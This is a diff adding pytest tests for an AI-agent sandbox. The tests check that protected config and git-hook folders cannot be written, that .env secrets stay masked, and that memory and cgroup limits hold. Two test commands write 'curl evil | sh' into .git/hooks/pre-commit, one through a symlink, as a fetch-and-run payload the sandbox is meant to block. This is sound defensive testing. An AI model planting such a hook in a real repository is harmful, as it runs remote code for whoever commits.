@@ -4,13 +4,17 @@ from __future__ import annotations
 
 import os
 import secrets
+import shutil
 import socket
+import subprocess
 import time
 from pathlib import Path
 
 import pytest
 
+from cockpit.sandbox import cgroup
 from cockpit.sandbox.boundary import BlockedBy, Limits
+from cockpit.sandbox.files import FileWalls
 from tests.sandbox.conftest import Sandbox
 
 
@@ -244,3 +248,140 @@ def test_no_cgroup_of_a_call_is_left_behind(sandbox: Sandbox) -> None:
     sandbox.sh("sleep 30", sandbox.boundary(limits=Limits(timeout_s=0.3)))
     left = [p.name for p in Path("/sys/fs/cgroup").rglob(f"{mine}*")]
     assert left == []
+
+
+def _files_under(folder: Path) -> list[Path]:
+    return [p for p in folder.rglob("*") if not p.is_dir()]
+
+
+@pytest.mark.parametrize(
+    ("command", "folder"),
+    [
+        ("mkdir -p .claude && echo '{}' > .claude/settings.json", ".claude"),
+        ("mkdir -p .cockpit/rules && echo 'x: 1' > .cockpit/rules/x.yaml", ".cockpit"),
+        ("mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks"),
+        ("echo 'x' > .codex/config.toml", ".codex"),
+    ],
+)
+def test_protected_folders_that_do_not_exist_yet_cannot_be_made(
+    sandbox: Sandbox, command: str, folder: str
+) -> None:
+    shutil.rmtree(sandbox.workspace / ".git" / "hooks")  # as in a clone made without hooks
+    done = sandbox.sh(command)
+    assert done.exit_code != 0
+    assert done.blocked_by is BlockedBy.READ_ONLY, done.text
+    made = sandbox.workspace / folder
+    assert made.is_dir()  # what is left: the empty mount point...
+    assert _files_under(made) == []  # ...and nothing in it
+    status = subprocess.run(
+        ["git", "status", "--porcelain"], cwd=sandbox.workspace, capture_output=True, text=True
+    )
+    assert status.stdout == ""  # git does not see empty folders
+
+
+def test_git_commit_works_with_the_protected_folders_mounted(sandbox: Sandbox) -> None:
+    shutil.rmtree(sandbox.workspace / ".git" / "hooks")
+    done = sandbox.sh("echo more >> README && git commit -qam 'by agent' && git log -1 --format=%s")
+    assert done.exit_code == 0, done.text
+    assert done.text.strip() == "by agent"
+
+
+def test_a_workspace_rule_unmasks_an_env_example_and_nothing_else(sandbox: Sandbox) -> None:
+    (sandbox.workspace / ".cockpit").mkdir()
+    (sandbox.workspace / ".cockpit" / "sandbox.yaml").write_text(
+        "unmasked:\n  workspace: ['.env.example']\n"
+    )
+    (sandbox.workspace / ".env.example").write_text("DB_PASSWORD=changeme\n")
+    (sandbox.workspace / ".env").write_text("DB_PASSWORD=swordfish\n")
+    done = sandbox.sh("cat .env.example; cat .env")
+    assert "changeme" in done.text
+    assert "swordfish" not in done.text
+
+
+def test_an_env_file_made_after_a_boundary_was_built_is_masked_in_the_next(
+    sandbox: Sandbox,
+) -> None:
+    config = sandbox.workspace / "app" / "config"
+    config.mkdir(parents=True)
+    an_hour_ago = time.time() - 3600
+    for folder in (sandbox.workspace, config.parent, config):
+        os.utime(folder, (an_hour_ago, an_hour_ago))  # settled: their listings are cached
+    assert sandbox.sh("ls app/config").exit_code == 0
+    (config / ".env").write_text("API_TOKEN=late-secret\n")
+    done = sandbox.sh("cat app/config/.env")
+    assert "late-secret" not in done.text
+    assert "Permission denied" in done.text
+
+
+def test_a_boundary_is_built_in_milliseconds_in_a_big_workspace(sandbox: Sandbox) -> None:
+    for a in range(20):
+        for b in range(20):
+            deep = sandbox.workspace / f"pkg{a}" / f"mod{b}" / "src" / "deep"
+            deep.mkdir(parents=True)
+            for f in range(25):  # 10,000 files, 2,000 folders
+                (deep / f"f{f}.py").touch()
+    sandbox.boundary()
+    timings = []
+    for _ in range(21):
+        started = time.perf_counter()
+        FileWalls.of(sandbox.boundary(), sandbox.env).writable(Path("pkg1/mod1/new.py"))
+        timings.append(time.perf_counter() - started)
+    # ~3.5 ms here on a 20k-file tree, boundary and file check together; the bound is
+    # loose for a busy CI machine
+    assert sorted(timings)[10] < 0.05
+
+
+def test_node_and_webassembly_start_under_the_default_limits(sandbox: Sandbox) -> None:
+    done = sandbox.sh(
+        "node -e 'console.log(1)' && "
+        "node -e 'new WebAssembly.Memory({initial: 1}); console.log(2)' && "
+        "python3 -c 'print(3)' && git --version >/dev/null && echo 4"
+    )
+    assert done.text.split() == ["1", "2", "3", "4"], done.text
+
+
+def test_a_command_allocating_past_the_memory_limit_dies_and_the_caller_survives(
+    sandbox: Sandbox,
+) -> None:
+    limits = Limits(memory_bytes=256 * 1024**2, timeout_s=60)
+    done = sandbox.sh(
+        'python3 -c \'x = b"x" * (512 * 1024 * 1024); print("allocated")\'',
+        sandbox.boundary(limits=limits),
+    )
+    assert done.exit_code != 0
+    assert "MemoryError" in done.text
+    assert "allocated" not in done.text
+    assert sandbox.sh("echo still here").text == "still here\n"
+
+
+def test_a_memory_cgroup_caps_the_call_as_a_whole(sandbox: Sandbox) -> None:
+    # three processes of 150 MB each: every one under a per-process cap of 256 MB,
+    # together past the call's; each exit code is printed as it ends
+    hog = "import time; x = b'x' * (150 * 1024 * 1024); time.sleep(2)"
+    script = (
+        f'for i in 1 2 3; do python3 -c "{hog}" & done; for i in 1 2 3; do wait -n; echo $?; done'
+    )
+    assert cgroup.memory_available()  # root here and in CI: the cgroup is made
+    with cgroup.limits(None, 256 * 1024**2) as join:
+        assert join is not None
+        proc = subprocess.run(
+            ["bash", "-c", script], preexec_fn=join, capture_output=True, text=True, timeout=60
+        )
+    codes = proc.stdout.split()
+    assert len(codes) == 3
+    assert "137" in codes  # the kernel killed a hog (SIGKILL), inside the call alone
+    assert sandbox.sh("echo still here").text == "still here\n"
+
+
+def test_a_protected_folder_that_is_a_symlink_is_protected_where_it_leads(
+    sandbox: Sandbox,
+) -> None:
+    shutil.rmtree(sandbox.workspace / ".git" / "hooks")
+    (sandbox.workspace / ".githooks").mkdir()
+    (sandbox.workspace / ".git" / "hooks").symlink_to("../.githooks")
+    (sandbox.outside / "shared-claude").mkdir()
+    (sandbox.workspace / ".claude").symlink_to(sandbox.outside / "shared-claude")
+    done = sandbox.sh("echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > .claude/s; ls")
+    assert "README" in done.text  # the sandbox still starts
+    assert not (sandbox.workspace / ".githooks" / "pre-commit").exists()
+    assert list((sandbox.outside / "shared-claude").iterdir()) == []
